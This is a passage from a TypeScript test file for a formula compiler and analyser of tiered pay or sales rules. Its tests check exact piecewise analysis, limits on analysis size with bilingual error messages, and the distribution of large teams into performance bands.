    const formula = check(expression)
    const cents = [-100, 0, 12_345, 2_000_001]
    const { values, scale } = compile(formula)({ sales: Float64Array.from(cents) })
    expect([...values].map((value) => fromScaled(BigInt(value), scale))).toEqual(
      cents.map((cent) => evaluate(formula, { sales: fromScaled(BigInt(cent), 2) }).value),
    )
  })

  test('A9 so does a choice of 2,000 categories', () => {
    const names = numbers(2_000).map((i) => `c${i}`)
    const cases = Object.fromEntries(names.map((name, i) => [name, constant(`${i}`)]))
    const formula = check(match('k', cases, constant('-1')))
    const dictionary = ['c0', 'c1999', 'other', 'c777']
    const { values } = compile(formula)({ k: { codes: Uint16Array.of(0, 1, 2, 3), dictionary } })
    expect([...values]).toEqual([0, 1999, -1, 777])
  })

  const x = input('x', 'count', 0)
  const count = (value: number) => constant(`${value}`, 'count')
  const least = (bound: number) => minimum(x, count(bound))
  const thousands = (make: (i: number) => Expression) => numbers(1_500).map(make)

  test('A10 a sum of 240 minimums is analysed exactly', () => {
    const bounds = numbers(240).map((i) => i * 7 + 1)
    const { pieces, nondecreasing, range } = analyze(check(add(...bounds.map(least))), {
      over: 'x',
    })
    expect(pieces).toHaveLength(241)
    expect(pieces[0]).toMatchObject({ from: '0', to: '1', slope: '240' })
    expect(nondecreasing).toBe(true)
    expect(range).toEqual({
      low: '0',
      high: `${bounds.reduce((sum, bound) => sum + bound)}`,
      exact: true,
    })
  })

  test('A10 a table of 500 tiers or bands is analysed, each tier and band told of', () => {
    const tiers = numbers(500).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
    const { pieces, choices, dead } = analyze(check(marginal(x, tiers)), { over: 'x' })
    expect(pieces).toHaveLength(500)
    expect(choices[0]?.branches).toHaveLength(500)
    expect(dead).toEqual([])
    const some = analyze(check(marginal(x, tiers)), { over: 'x', domain: { to: '2500' } })
    expect(some.dead).toHaveLength(250)
    const bands = numbers(500).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` }))
    expect(analyze(check(step(x, bands)), { over: 'x' }).pieces).toHaveLength(500)
  })

  const large: readonly (readonly [string, Expression, string])[] = [
    [
      'the greatest of 1,500 lines',
      maximum(...thousands((i) => subtract(multiply(x, count(i)), count(i * i)))),
      'too-much-work',
    ],
    ['a sum of 1,000 squares', add(...numbers(1_000).map(() => multiply(x, x))), 'too-much-work'],
    [
      'a table of 3,000 tiers',
      marginal(
        x,
        numbers(3_000).map((i) => ({ from: `${i}`, rate: rateOf(i) })),
      ),
      'too-many-pieces',
    ],
    [
      'a table of 3,000 bands',
      step(
        x,
        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` })),
      ),
      'too-many-pieces',
    ],
  ]
  test.each(large)('A10 the analysis of %s is bounded', (_, expression, code) => {
    const [problem] = problemsOf(() => analyze(check(expression), { over: 'x' }))
    expect(problem?.code).toBe(code)
  })

  test('A10 the analysis says in both languages what to do', () => {
    const tell = (locale: 'en' | 'zh-CN') =>
      describeProblems(
        problemsOf(() => analyze(check(large[1]?.[1] as Expression), { over: 'x' })),
        locale,
      )
    expect(tell('en')).toMatch(
      /an exact analysis would take more than 300000 steps. Analyse a smaller domain, or split the rule into several formulas.$/,
    )
    expect(tell('zh-CN')).toMatch(/精确分析超过 300000 步。请缩小分析范围，或把规则拆成几个公式。$/)
  })

  test('A10 the splits of a deal are bounded', () => {
    const tiers = numbers(20).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
    const analysis = analyze(check(marginal(x, tiers)), { over: 'x' })
    expect(splitGain(analysis, { amount: '100', parts: 3 }).parts).toEqual(['100'])
    const told = problemsOf(() => splitGain(analysis, { amount: '1000', parts: 5 }))
    expect(told.map(({ code, path }) => `${code} ${path}`)).toEqual(['too-much-work parts'])
  })

  test('A10 a rule that is too large to be analysed is refused, and not called fair', () => {
    const rule = {
      name: 'large',
      formula: check(large[0]?.[1] as Expression),
      measures: [{ input: 'x', better: 'higher' as const }],
    }
    const told = problemsOf(() => checkPolicy(rule, { laws: ['monotone'] }))
    expect(told.map(({ code, path }) => `${code} ${path}`)).toEqual(['too-much-work large'])
  })

  const teamOf = (scores: readonly number[], ties: 'better' | 'worse') => {
    const policy = parseDistribution({
      id: 'year',
      bands: [
        { band: 'A', share: '0.2' },
        { band: 'B', share: '0.8' },
      ],
      ties,
      smallestTeam: 1,
    })
    return distribute(
      policy,
      scores.map((score, i) => ({ id: `p${i}`, score: `${score}.0` })),
    )
  }

  test.each([
    ['all tied', () => 80],
    ['two halves', (i: number) => i % 2],
    ['all apart', (i: number) => i],
  ])('A13 a team of 16,000 is distributed: %s', (_, scoreOf) => {
    const { people, bands } = teamOf(numbers(16_000).map(scoreOf), 'worse')
    expect(people).toHaveLength(16_000)
    expect(bands.map(({ planned }) => planned)).toEqual([3_200, 12_800])
  })

  test('A13 a drawn team is ranked by how many score more', () => {
    fc.assert(
      fc.property(
        fc.array(fc.nat(5), { minLength: 1 }),
        fc.constantFrom('better' as const, 'worse' as const),
        (scores, ties) => {
          const { people } = teamOf(scores, ties)
          expect(people.map(({ id, rank }) => [id, rank]).toSorted()).toEqual(
            scores
              .map((own, i) => [`p${i}`, 1 + scores.filter((score) => score > own).length])
              .toSorted(),
          )
        },
      ),
    )
  })
})
